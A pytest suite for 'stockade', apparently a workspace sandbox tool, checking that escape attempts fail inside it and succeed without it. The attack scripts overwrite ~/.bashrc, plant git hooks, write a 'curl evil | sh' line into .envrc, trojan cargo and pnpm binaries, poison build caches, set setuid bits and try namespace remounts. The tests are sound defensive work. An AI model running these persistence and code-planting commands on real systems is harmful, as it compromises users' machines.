"""Filesystem boundary: writes leave the workspace only where stockade says they may.

Each attack runs inside a real sandbox; the verdict is read from the host.
The outside targets belong to the runner, so without the sandbox every one
of these writes would succeed -- `test_control_same_attacks_succeed_unconfined`
proves that by running the identical script with no boundary.
"""

from __future__ import annotations

import json
import os
import secrets
import subprocess
import time
from pathlib import Path

import pytest

from .conftest import (
    OLD_BWRAP,
    SH_TRY,
    SYSTEM_PYTHON,
    Box,
    attempts,
    quarantined,
    snapshot,
    text,
)

pytestmark = pytest.mark.isolation

# $1: a path in host /tmp that exists there; $2: one that does not.
ESCAPE_SCRIPT = SH_TRY + r"""
try bashrc-overwrite sh -c 'echo PWNED > "$HOME/.bashrc"'
try bashrc-append    sh -c 'echo PWNED >> "$HOME/.bashrc"'
try home-new-file    sh -c 'echo PWNED > "$HOME/.profile"'
try home-mkdir       mkdir "$HOME/.config/autostart"
try sibling-write    sh -c 'echo PWNED > ../sibling/notes.txt'
try sibling-new      sh -c 'echo PWNED > ../sibling/new.txt'
try sibling-rm       rm -f ../sibling/notes.txt
try sibling-chmod    chmod 777 ../sibling/notes.txt
try parent-new       sh -c 'echo PWNED > ../planted.txt'
try abs-sibling      sh -c 'echo PWNED > "$(dirname "$PWD")/sibling/abs.txt"'
try proc-root        sh -c 'echo PWNED > "/proc/self/root$HOME/.bashrc"'
# host /tmp: the sandbox has its own, so these may succeed *inside*; the host must not see them.
echo PWNED > "$1" 2>/dev/null
echo PWNED > "$2" 2>/dev/null
echo in-workspace > ok.txt
"""
BLOCKED = ("bashrc-overwrite", "bashrc-append", "home-new-file", "home-mkdir", "sibling-write",
           "sibling-new", "sibling-rm", "sibling-chmod", "parent-new", "abs-sibling",
           "proc-root")


def _host_tmp_targets(box: Box) -> tuple[Path, Path]:
    tag = secrets.token_hex(6)
    existing = Path(f"/tmp/stockade-iso-existing-{tag}")
    box.write(existing, "host tmp original\n")
    return existing, Path(f"/tmp/stockade-iso-new-{tag}")


def test_writes_outside_workspace_leave_host_unchanged(box: Box) -> None:
    existing, fresh = _host_tmp_targets(box)
    try:
        home0, sib0 = snapshot(box.home), snapshot(box.sibling)
        parent0 = sorted(os.listdir(box.root))
        res = box.sh(ESCAPE_SCRIPT, str(existing), str(fresh), mode="workspace-write")
        out = text(res)
        assert res.returncode == 0, out
        # The sandbox really ran and really could write where it may.
        assert (box.ws / "ok.txt").read_text() == "in-workspace\n", out
        tried = attempts(res)
        assert {n for n in BLOCKED if tried.get(n) is not False} == set(), out
        assert snapshot(box.home) == home0
        assert snapshot(box.sibling) == sib0
        assert sorted(os.listdir(box.root)) == parent0
        assert existing.read_text() == "host tmp original\n"
        assert not fresh.exists()
    finally:
        existing.unlink(missing_ok=True)
        fresh.unlink(missing_ok=True)


def test_control_same_attacks_succeed_unconfined(box: Box) -> None:
    """Without a boundary (full-access) the script does write: the test above can fail."""
    existing, fresh = _host_tmp_targets(box)
    try:
        res = box.sh(ESCAPE_SCRIPT, str(existing), str(fresh), mode="full-access")
        out = text(res)
        tried = attempts(res)
        assert tried["bashrc-overwrite"] and tried["sibling-new"], out
        assert "PWNED" in (box.home / ".bashrc").read_text()
        assert (box.sibling / "new.txt").exists()
        assert existing.read_text() == "PWNED\n"
        assert fresh.exists()
    finally:
        existing.unlink(missing_ok=True)
        fresh.unlink(missing_ok=True)


def test_symlink_out_of_workspace_does_not_write_through(box: Box) -> None:
    os.symlink(box.home / ".bashrc", box.ws / "to-bashrc")
    os.symlink("../sibling/notes.txt", box.ws / "to-notes")
    os.symlink(box.sibling, box.ws / "to-sibling-dir")
    for name in ("to-bashrc", "to-notes", "to-sibling-dir"):
        box.runner.own(box.ws / name)
    home0, sib0 = snapshot(box.home), snapshot(box.sibling)
    script = r"""
for t in to-bashrc to-notes; do
  if echo PWNED > "$t"; then echo "WROTE $t"; fi
  if echo PWNED >> "$t"; then echo "WROTE+ $t"; fi
done
if echo PWNED > to-sibling-dir/new.txt; then echo "WROTE dir"; fi
# A link made inside the sandbox, then written through.
ln -s "$HOME/.bashrc" made-inside && { if echo PWNED > made-inside; then echo "WROTE made"; fi; }
ln -s ../sibling made-dir && { if echo PWNED > made-dir/new2.txt; then echo "WROTE made-dir"; fi; }
cat to-bashrc
"""
    res = box.sh(script, mode="workspace-write")
    out = text(res)
    assert "WROTE" not in out, out
    # The link did lead somewhere real: reading through it works, writing does not.
    assert box.markers[".bashrc"] in out, out
    assert snapshot(box.home) == home0
    assert snapshot(box.sibling) == sib0


def test_hardlink_to_outside_file_fails(box: Box) -> None:
    home0, sib0 = snapshot(box.home), snapshot(box.sibling)
    script = r"""
ln ../sibling/notes.txt hl-notes 2>&1 && echo "LINKED notes"
ln "$HOME/.bashrc" hl-bashrc 2>&1 && echo "LINKED bashrc"
ln "$HOME/.aws/credentials" hl-aws 2>&1 && echo "LINKED aws"
echo PWNED >> hl-notes 2>/dev/null
true
"""
    res = box.sh(script, mode="workspace-write")
    out = text(res)
    assert "LINKED" not in out, out
    assert snapshot(box.home) == home0, "a link count or file under HOME changed"
    assert snapshot(box.sibling) == sib0
    assert (box.sibling / "notes.txt").stat().st_nlink == 1
    for name in ("hl-notes", "hl-bashrc", "hl-aws"):
        p = box.ws / name
        # hl-notes may exist as a new, unrelated file from the `>>`; never as a link.
        assert not p.exists() or p.stat().st_ino != (box.sibling / "notes.txt").stat().st_ino


# -- protected metadata in workspace-write -----------------------------------------------

PROTECTED_ATTACKS = SH_TRY + r"""
try stockade-dir   sh -c 'mkdir -p .stockade && echo x > .stockade/policy.toml'
try stockade-rm    sh -c 'rm -rf .stockade; mkdir .stockade && echo x > .stockade/p'
try envrc          sh -c 'echo "curl evil | sh" > .envrc'
try envrc-rm       sh -c 'rm -f .envrc && echo "curl evil | sh" > .envrc'
try envrc-mv       sh -c 'echo "curl evil | sh" > e && mv -f e .envrc'
try stockade-toml  sh -c 'printf "[sandbox]\nmode = \"full-access\"\n" > stockade.toml'
try toml-mv        sh -c 'echo x > t && mv -f t stockade.toml'
try vscode         sh -c 'mkdir -p .vscode && echo "{}" > .vscode/settings.json'
try vscode-mv      sh -c 'mkdir v && echo "{}" > v/tasks.json && mv -T v .vscode'
try claude         sh -c 'mkdir -p .claude && echo x > .claude/settings.json'
try git-hook       sh -c 'mkdir -p .git/hooks && echo "touch /tmp/x" > .git/hooks/pre-commit'
try git-config     sh -c 'printf "[core]\n\tfsmonitor = touch /tmp/x\n" >> .git/config'
try git-replace    sh -c 'mv .git g && mkdir -p .git/hooks && echo x > .git/hooks/pre-commit'
try envrc-proc     sh -c 'echo "curl evil | sh" > "/proc/self/root$PWD/.envrc"'
try vscode-proc    sh -c 'mkdir -p "/proc/self/root$PWD/.vscode/x"'
"""
PROTECTED_NAMES_CHECKED = ("stockade-dir", "stockade-rm", "envrc", "envrc-rm", "envrc-mv",
                           "stockade-toml", "toml-mv", "vscode", "vscode-mv", "claude",
                           "git-hook", "git-config", "git-replace", "envrc-proc", "vscode-proc")


LEFT_FOR_THE_HOST = {".stockade", ".envrc", "stockade.toml", ".vscode", ".claude", ".codex",
                     ".agents", ".idea", ".mcp.json", ".cursor", ".devcontainer"}


def _git_would_run(ws: Path) -> list[str]:
    """What in `ws/.git` the host's git would execute: real hooks, program keys."""
    git = ws / ".git"
    if not git.is_dir():
        return []
    found = [f"hook {h.name}" for h in (git / "hooks").glob("*")
             if not h.name.endswith(".sample")] if (git / "hooks").is_dir() else []
    config = (git / "config").read_text() if (git / "config").is_file() else ""
    found += [f"config {k}" for k in ("fsmonitor", "hookspath", "pager", "include")
              if k in config.lower()]
    return found


def test_protected_names_a_run_creates_are_neutralised(box: Box) -> None:
    """No placeholder exists to stop the names being made; the guard makes them inert after.

    The control runs the same script unconfined in a copy: the names are left
    behind there, so the check below is not vacuous.
    """
    box.write(box.ws / "main.py", "print('hi')\n")
    control = box.mkdir("control")
    subprocess.run(["sh", "-c", PROTECTED_ATTACKS], cwd=control, capture_output=True,
                   check=False)
    assert {".stockade", ".envrc", "stockade.toml", ".vscode", ".claude"} <= set(
        os.listdir(control))
    assert _git_would_run(control)
    res = box.sh(PROTECTED_ATTACKS, mode="workspace-write")
    out = text(res)
    after = set(os.listdir(box.ws))
    assert not LEFT_FOR_THE_HOST & after, f"left on the host: {LEFT_FOR_THE_HOST & after}\n{out}"
    assert _git_would_run(box.ws) == [], out
    assert "neutralised" in out, out
    # Nothing is lost: the command's files are in the quarantine the hint names.
    kept = quarantined(box.state, ".envrc")
    assert kept and b"curl evil" in kept[0].read_bytes(), out


def test_benign_run_leaves_no_placeholders(box: Box) -> None:
    box.write(box.ws / "main.py", "print('hi')\n")
    before = snapshot(box.ws)
    res = box.sh("ls -a", mode="workspace-write")
    assert res.returncode == 0, text(res)
    # Inside, the workspace looks as it does on the host: no placeholder ...
    listing = res.stdout.decode().split()
    assert ".envrc" not in listing and ".git" not in listing, text(res)
    # ... and afterwards the host has exactly what it had.
    assert snapshot(box.ws) == before


def test_existing_protected_files_stay_unchanged(box: Box) -> None:
    box.write(box.ws / "stockade.toml", '[sandbox]\nmode = "read-only"\n')
    box.write(box.ws / ".envrc", "export SAFE=1\n")
    box.mkdir("ws/.vscode")
    box.write(box.ws / ".vscode" / "settings.json", "{}\n")
    guarded = {p: snapshot(box.ws / p) if (box.ws / p).is_dir() else (box.ws / p).read_bytes()
               for p in ("stockade.toml", ".envrc", ".vscode")}
    res = box.sh(PROTECTED_ATTACKS, mode="workspace-write")
    out = text(res)
    tried = attempts(res)
    names = ("envrc", "envrc-rm", "envrc-mv", "stockade-toml", "toml-mv", "vscode", "vscode-mv")
    assert {n for n in names if tried.get(n) is not False} == set(), out
    for p, was in guarded.items():
        now = snapshot(box.ws / p) if (box.ws / p).is_dir() else (box.ws / p).read_bytes()
        assert now == was, p


# -- read-only mode ----------------------------------------------------------------------

RO_SCRIPT = SH_TRY + r"""
try create   sh -c 'echo x > new.txt'
try append   sh -c 'echo x >> a.txt'
try truncate sh -c ': > a.txt'
try delete   rm a.txt
try chmod    chmod 777 a.txt
try rename   mv a.txt b.txt
try mkdir    mkdir newdir
try rmdir    sh -c 'rm -f d/f && rmdir d'
try touch    touch a.txt
try symlink  ln -s a.txt link
try subfile  sh -c 'echo x > d/f'
"""
RO_OPS = ("create", "append", "truncate", "delete", "chmod", "rename", "mkdir", "rmdir",
          "touch", "symlink", "subfile")


def _ro_workspace(box: Box) -> None:
    box.write(box.ws / "a.txt", "original\n")
    box.mkdir("ws/d")
    box.write(box.ws / "d" / "f", "inner\n")


def test_read_only_default_blocks_every_write(box: Box) -> None:
    _ro_workspace(box)
    before = snapshot(box.ws)
    res = box.sh(RO_SCRIPT)  # no --mode: the default must be read-only
    out = text(res)
    tried = attempts(res)
    assert {n for n in RO_OPS if tried.get(n) is not False} == set(), out
    assert snapshot(box.ws) == before


def test_control_workspace_write_does_change_workspace(box: Box) -> None:
    """The read-only script is a real attack: with write access it changes the tree."""
    _ro_workspace(box)
    before = snapshot(box.ws)
    res = box.sh(RO_SCRIPT, mode="workspace-write")
    out = text(res)
    tried = attempts(res)
    assert tried["create"] and tried["mkdir"], out
    assert snapshot(box.ws) != before


# -- toolchain directories stockade makes writable -----------------------------------------
#
# hostpaths.scratch() binds existing toolchain directories under HOME read-write so
# builds work. Caches are the point; but a directory of executables, a config or
# init-script directory, or unpacked sources the host compiles without checking
# are code the host runs later, unconfined. Each case plants such code; the
# verdict is whether the planted path changed on the host. The toolchain's
# directory exists in every case, so only stockade's choice of binds decides.

SCRATCH_CASES = [
    pytest.param(
        ".cargo/bin/cargo", "#!/bin/sh\nexec /usr/bin/true real-cargo\n",
        'printf "#!/bin/sh\\necho TROJAN\\n" > "$HOME/.cargo/bin/cargo"',
        id="cargo-bin"),
    pytest.param(
        ".cargo/config.toml", None,
        'printf "[build]\\nrustc-wrapper = \\"/tmp/evil\\"\\n" > "$HOME/.cargo/config.toml"',
        id="cargo-config"),
    pytest.param(
        ".gradle/init.d/evil.gradle", None,
        'mkdir -p "$HOME/.gradle/init.d" && echo "println 1" > "$HOME/.gradle/init.d/evil.gradle"',
        id="gradle-init"),
    pytest.param(
        ".local/share/pnpm/pnpm", "#!/bin/sh\nexec /usr/bin/true real-pnpm\n",
        'echo "echo TROJAN" > "$HOME/.local/share/pnpm/pnpm"',
        id="pnpm-home"),
    pytest.param(
        ".cargo/registry/src/index.crates.io-0000000000000000/dep-1.0.0/build.rs",
        "fn main() {}\n",
        'echo "fn main() { evil() }" > '
        '"$HOME/.cargo/registry/src/index.crates.io-0000000000000000/dep-1.0.0/build.rs"',
        # Source caches are writable only when a command may fetch (network
        # granted); the default, offline, keeps them read-only.
        id="cargo-registry-src"),
    pytest.param(
        "go/pkg/mod/example.com/dep@v1.0.0/dep.go", "package dep\n",
        'd="$HOME/go/pkg/mod/example.com/dep@v1.0.0"; chmod u+w "$d" "$d/dep.go" && '
        'echo "func init() { evil() }" >> "$d/dep.go"',
        id="go-modcache"),
]


@pytest.mark.parametrize(("rel", "original", "attack"), SCRATCH_CASES)
def test_toolchain_dirs_cannot_plant_code_the_host_runs(box: Box, rel: str,
                                                        original: str | None,
                                                        attack: str) -> None:
    target = box.home / rel
    # The toolchain directory must exist on the host for stockade to bind it.
    target.parent.mkdir(parents=True, exist_ok=True)
    for d in [target.parent, *target.parent.parents]:
        if d == box.home:
            break
        os.chmod(d, 0o755)
        box.runner.own(d)
    if original is not None:
        box.write(target, original, 0o755)
    before = target.read_bytes() if target.exists() else None
    res = box.sh(attack, mode="workspace-write")
    after = target.read_bytes() if target.exists() else None
    assert after == before, f"{rel} changed on the host: {text(res)}"


NAMESPACE_ESCAPES = SH_TRY + r"""
try remount       mount -o remount,rw "$PWD"
try bind-rw       sh -c 'mount --bind "$PWD" "$PWD" && mount -o remount,rw,bind "$PWD"'
try userns-remount unshare -Urm sh -c 'mount -o remount,rw "$0" && echo x > "$0/pwned"' "$PWD"
try mountns       unshare -m true
try userns-py     python3 -I -c 'import ctypes; assert ctypes.CDLL(None).unshare(0x10000000) == 0'
try write-after   sh -c 'echo x > pwned'
"""


def test_read_only_workspace_survives_namespace_tricks(box: Box) -> None:
    """Capabilities are dropped and new user namespaces refused, so read-only cannot be undone."""
    _ro_workspace(box)
    before = snapshot(box.ws)
    res = box.sh(NAMESPACE_ESCAPES)
    tried = attempts(res)
    names = ("remount", "bind-rw", "userns-remount", "mountns", "userns-py", "write-after")
    assert {n for n in names if tried.get(n) is not False} == set(), text(res)
    assert snapshot(box.ws) == before


def test_no_setuid_program_is_left_in_the_workspace(box: Box) -> None:
    """Run as root, a sandbox's files belong to the real root: a setuid bit set
    inside would be a setuid-root program on the host for any local user."""
    res = box.sh(SH_TRY + r"""
cp /bin/true ./suid-true
try chmod-suid chmod 4755 ./suid-true
try chmod-sgid chmod g+s ./suid-true
try install-suid sh -c 'cp /bin/true ./other && chmod u+s ./other'
""", mode="workspace-write")
    out = text(res)
    for path in (box.ws / "suid-true", box.ws / "other"):
        assert path.exists(), out  # the copies were made: the sandbox did run
        assert path.stat().st_mode & 0o6000 == 0, (path, oct(path.stat().st_mode), out)


def test_control_setuid_bit_sticks_without_the_boundary(box: Box) -> None:
    res = box.sh("cp /bin/true ./suid-true && chmod 4755 ./suid-true", mode="full-access")
    assert res.returncode == 0, text(res)
    assert (box.ws / "suid-true").stat().st_mode & 0o4000, text(res)


def test_filling_tmp_or_a_huge_file_stops_inside(box: Box) -> None:
    """A fresh /tmp is a capped tmpfs, and one file cannot outgrow max_file_size_mb:
    the command meets ENOSPC / SIGXFSZ instead of the host running out of memory or disk."""
    cfg = box.write(box.state / "caps.toml",
                    "[sandbox]\ntmp_size_mb = 8\nmax_file_size_mb = 4\n")
    res = box.sh(SH_TRY + r"""
try tmp-fill sh -c 'head -c 64M /dev/zero > /tmp/fill'
try big-file sh -c 'head -c 32M /dev/zero > ./big'
""", mode="workspace-write", options=["--config", str(cfg)])
    tried = attempts(res)
    assert tried == {"tmp-fill": False, "big-file": False}, text(res)
    big = box.ws / "big"
    assert big.exists() and big.stat().st_size <= 4 << 20, text(res)  # seen from the host


#: Agent, editor and project settings the person's tools read on opening the folder.
LIVE_NAMES = (".vscode/tasks.json", ".claude/settings.json", ".mcp.json", ".envrc",
              "stockade.toml", ".devcontainer/devcontainer.json")


def test_protected_names_are_neutralised_while_the_command_runs(box: Box) -> None:
    """Each name a running command creates is gone within milliseconds, seen from the
    host while the command still runs, and the command is told its write did not stand
    (a write into a vanished directory fails). It once stayed for the command's life."""
    plant = "; ".join(
        f'mkdir -p "$(dirname {n})"; t0=$(date +%s%N); echo payload > {n}; s=$?; i=0; '
        f'while [ -e {n} ] && [ $i -lt 1000 ]; do i=$((i+1)); sleep 0.005; done; '
        f'echo "window {n} $s $(( ($(date +%s%N) - t0) / 1000000 ))"' for n in LIVE_NAMES)
    control = box.mkdir("control")
    subprocess.run(["sh", "-c", plant.replace("1000", "1")], cwd=control, capture_output=True,
                   check=False, timeout=60)
    assert all((control / n).exists() for n in LIVE_NAMES)  # unconfined, they stay
    proc = box.runner.popen(
        box.runner.cli_argv(["run", "--mode", "workspace-write", "--timeout", "30", "--",
                             "/bin/sh", "-c", plant + "; touch ready; sleep 3"]),
        cwd=str(box.ws), env=box.env(), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
        stderr=subprocess.PIPE)
    try:
        deadline = time.monotonic() + 30
        while not (box.ws / "ready").exists() and proc.poll() is None \
                and time.monotonic() < deadline:
            time.sleep(0.02)
        running = proc.poll() is None
        live = [n for n in LIVE_NAMES if (box.ws / n).exists()]
    finally:
        stdout, stderr = (b.decode(errors="replace") for b in proc.communicate(timeout=40))
    # The shell's own complaints go to stderr, so they never split a marker line.
    out = stdout + stderr
    assert running and not live, out
    windows = {w[1]: int(w[3]) for w in (line.split() for line in stdout.splitlines())
               if w[:1] == ["window"]}
    assert set(windows) == set(LIVE_NAMES), out
    assert max(windows.values()) < 1000, out


# The library's result, as JSON on stdout: a session on the box's workspace.
LIBRARY_UNDONE = """
import json, sys
sys.path.insert(0, {site!r})
from stockade import SandboxCommand, SyncWorkspaceSandbox
from stockade.config import load_config
with SyncWorkspaceSandbox(load_config(cwd={ws!r}, mode="workspace-write", ledger=False,
                                      backend={backend!r})) as sb:
    sb.open_session("s", {ws!r})
    out = sb.execute(SandboxCommand("/bin/sh", ["-c", "mkdir .vscode"], session_id="s",
                                    timeout=60))
print(json.dumps([out.exit_code, [n.to_json() for n in out.neutralised], out.denial_hint]))
"""


def test_a_vscode_the_command_made_is_undone_and_the_result_says_so(
        box: Box, backend: str = "bubblewrap") -> None:
    """`mkdir .vscode` exits 0 and the guard takes the directory away a few ms later:
    no sandbox can refuse one name in a writable directory when it is made. The 0
    stood alone; now the library's result and the `--json` object list what was
    undone, and the CLI's `stockade:` line says the 0 does not cover it."""
    vscode = str(box.ws / ".vscode")
    res = box.sh("mkdir .vscode", mode="workspace-write")
    err = res.stderr.decode(errors="replace")
    assert res.returncode == 0, text(res)
    assert err.startswith("stockade: the sandbox neutralised") and ".vscode" in err, err
    assert err.endswith("the command exited 0, but what is named here did not stay\n"), err
    assert not os.path.lexists(vscode) and quarantined(box.state, ".vscode"), err
    res = box.sh("mkdir .vscode; exit 3", mode="workspace-write", options=["--json"])
    assert res.returncode == 3, text(res)
    doc = json.loads(res.stdout)
    assert doc["exit_code"] == 3 and [n["path"] for n in doc["neutralised"]] == [vscode], doc
    assert doc["neutralised"][0]["moved_to"], doc
    assert not os.path.lexists(vscode)
    code = LIBRARY_UNDONE.format(site=box.runner.site, ws=str(box.ws), backend=backend)
    lib = box.host([box.runner.python, "-I", "-c", code], timeout=90)
    assert lib.returncode == 0, text(lib)
    exit_code, done, hint = json.loads(lib.stdout.decode().splitlines()[-1])
    assert exit_code == 0 and [n["path"] for n in done] == [vscode], text(lib)
    assert "neutralised" in hint and ".vscode" in hint, hint
    assert not os.path.lexists(vscode) and len(quarantined(box.state, ".vscode")) == 3


# -- the toolchain caches the host's own builds read -------------------------------------

#: (the cache under HOME, the variable that moves it): one build cache, one of a
#: compiler wrapper's, and (with network) a package manager's.
CACHES = ((".cache/go-build", "GOCACHE"), (".cache/ccache", "CCACHE_DIR"),
          (".cache/pip", "PIP_CACHE_DIR"))


def test_a_build_cache_is_reused_and_never_written(box: Box, reused: bool = True) -> None:
    """A command reads the host's warm caches but what it writes there (an index entry
    Go would link without re-hashing, a ccache object, a pip wheel) never reaches them:
    the host's next build would once have used the command's objects."""
    for rel, _var in CACHES:
        box.write(box.home / rel / "00" / "entry", "host object\n")
        for d in (box.home / rel, box.home / rel / "00", *(box.home / rel).parents):
            if d == box.home.parent:
                break
            os.chmod(d, 0o755)
            box.runner.own(d)
    before = snapshot(box.home / ".cache")
    script = "; ".join(
        f'd="${{{var}:-$HOME/{rel}}}"; cat "$d/00/entry"; mkdir -p "$d/ff" "$d/00" && '
        f'echo planted > "$d/ff/evil" && echo poisoned > "$d/00/entry" && echo "wrote {var}"'
        for rel, var in CACHES)
    control = box.mkdir("control-home")
    subprocess.run(["sh", "-c", script], env={"HOME": str(control), "PATH": "/usr/bin:/bin"},
                   capture_output=True, check=False, timeout=60)
    res = box.sh(script, mode="workspace-write", options=["--network", "all", "--yes"])
    out = text(res)
    # The build works: it reads the host's entries (where a layer can lie over
    # them: not under Landlock, nor a bwrap older than 0.10) and writes its own.
    reused = reused and not OLD_BWRAP
    assert out.count("host object") == (len(CACHES) if reused else 0), out
    assert out.count("wrote ") == len(CACHES), out
    assert snapshot(box.home / ".cache") == before, out
    # Unconfined, the same script does write them.
    assert all((control / rel / "ff" / "evil").exists() for rel, _var in CACHES)


def test_a_sessions_cache_layer_is_removed_even_when_made_unsearchable(box: Box) -> None:
    """A layer left with a directory of mode 000 stayed in the person's state for good
    (only root's rm gets through one)."""
    rel = ".cache/go-build"
    box.write(box.home / rel / "00" / "entry", "host object\n")
    for d in (box.home / ".cache", box.home / rel, box.home / rel / "00"):
        os.chmod(d, 0o755)
        box.runner.own(d)
    res = box.sh(f'd="${{GOCACHE:-$HOME/{rel}}}"; mkdir -p "$d/zz/deep" && echo p > '
                 '"$d/zz/deep/f" && chmod 000 "$d/zz/deep" "$d/zz" && echo locked',
                 mode="workspace-write")
    assert b"locked" in res.stdout, text(res)
    caches = box.state / "state" / "stockade" / "caches"
    assert not caches.exists() or list(caches.iterdir()) == [], list(caches.rglob("*"))


def test_a_file_moves_between_directories_of_the_workspace(box: Box) -> None:
    """rename(2) into another directory (setuptools' wheel, git, editors' atomic saves):
    under Landlock every one failed with EXDEV (`mv` hid it by copying instead)."""
    box.mkdir("ws/a")
    box.mkdir("ws/a/b")
    box.write(box.ws / "a/b/f", "moved\n")
    res = box.py('import os; os.rename("a/b/f", "a/f"); os.rename("a/f", "g"); print("moved")',
                 mode="workspace-write")
    assert res.stdout == b"moved\n", text(res)
    assert (box.ws / "g").read_text() == "moved\n" and not (box.ws / "a/b/f").exists()


TINY_SETUP = ('from setuptools import setup\n'
              'setup(name="tiny", version="0.1", py_modules=["tiny"])\n')


@pytest.mark.parametrize("cache", ["existing", "missing"])
def test_pip_wheel_of_a_local_project_builds_and_leaves_pips_cache_alone(box: Box,
                                                                          cache: str) -> None:
    """`pip wheel .` in `my-proj`, offline: pip puts a wheel built from a tree whose
    path looks like `name-version` in its persistent cache, and root's pip takes a
    read-only cache it owns for writable, so the build failed with `Read-only file
    system` (Landlock: `Permission denied`, for every user). The wheel is made, and
    the host's cache, or its absence, is as it was."""
    find = ("import importlib.util as u; "
            "assert all(map(u.find_spec, ('pip', 'setuptools', 'wheel')))")
    have = subprocess.run([SYSTEM_PYTHON, "-I", "-c", find], capture_output=True, check=False,
                          timeout=60)
    if have.returncode:
        pytest.skip(f"{SYSTEM_PYTHON} lacks pip, setuptools or wheel (Debian: python3-pip, "
                    "python3-setuptools, python3-wheel)")
    proj = box.mkdir("ws/my-proj")
    box.write(proj / "setup.py", TINY_SETUP)
    box.write(proj / "tiny.py", "X = 1\n")
    # setuptools' PEP 517 backend, which moves the wheel out of a temporary directory.
    box.write(proj / "pyproject.toml", '[build-system]\nrequires = ["setuptools"]\n'
              'build-backend = "setuptools.build_meta"\n')
    if cache == "existing":
        box.write(box.home / ".cache/pip/wheels/00/entry", "host wheel\n")
        for d in (".cache", ".cache/pip", ".cache/pip/wheels", ".cache/pip/wheels/00"):
            os.chmod(box.home / d, 0o755)
            box.runner.own(box.home / d)
    before = snapshot(box.home)
    res = box.run([SYSTEM_PYTHON, "-I", "-m", "pip", "wheel", "--no-index", "--no-deps",
                   "--no-build-isolation", "."],
                  mode="workspace-write", cwd=proj, timeout=120)
    assert res.returncode == 0, text(res)
    assert (proj / "tiny-0.1-py3-none-any.whl").is_file(), text(res)
    assert snapshot(box.home) == before, text(res)
